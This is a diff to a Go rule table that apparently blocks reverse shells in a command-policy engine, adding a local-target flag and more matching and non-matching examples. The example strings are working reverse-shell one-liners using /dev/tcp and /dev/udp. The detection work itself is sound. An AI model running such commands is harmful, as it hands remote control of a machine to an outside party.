@@ -876,10 +876,12 @@ var defaultRules = [...]Rule{
 		Decision: Verdict("deny"),
 		Reason:   "connects a shell to a remote host through /dev/tcp or /dev/udp: a reverse shell",
 		Matcher: Matcher{
-			Writes: []string{"/dev/tcp/**", "/dev/udp/**"},
-			c:      &defaultCells[61],
+			Writes:      []string{"/dev/tcp/**", "/dev/udp/**"},
+			TargetLocal: &boolFalse,
+			c:           &defaultCells[61],
 		},
-		Examples: []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i > /dev/udp/1.2.3.4/53"},
+		Examples:    []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i > /dev/udp/1.2.3.4/53", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/203.0.113.4/80"},
+		NotExamples: []string{"exec 3<>/dev/tcp/localhost/5432 && echo ok", "printf 'PING\\r\\n' > /dev/tcp/127.0.0.1/6379"},
 	},
 	{
 		Origin:   LayerBuiltin,
@@ -887,10 +889,12 @@ var defaultRules = [...]Rule{
 		Decision: Verdict("deny"),
 		Reason:   "reads commands from /dev/tcp or /dev/udp: a reverse shell",
 		Matcher: Matcher{
-			Reads: []string{"/dev/tcp/**", "/dev/udp/**"},
-			c:     &defaultCells[62],
+			Reads:       []string{"/dev/tcp/**", "/dev/udp/**"},
+			TargetLocal: &boolFalse,
+			c:           &defaultCells[62],
 		},
-		Examples: []string{"bash 0< /dev/tcp/10.0.0.1/4444"},
+		Examples:    []string{"bash 0< /dev/tcp/10.0.0.1/4444", "sh < /dev/tcp/127.0.0.1/9000"},
+		NotExamples: []string{"cat < /dev/tcp/127.0.0.1/13"},
 	},
 	{
 		Origin:   LayerBuiltin,
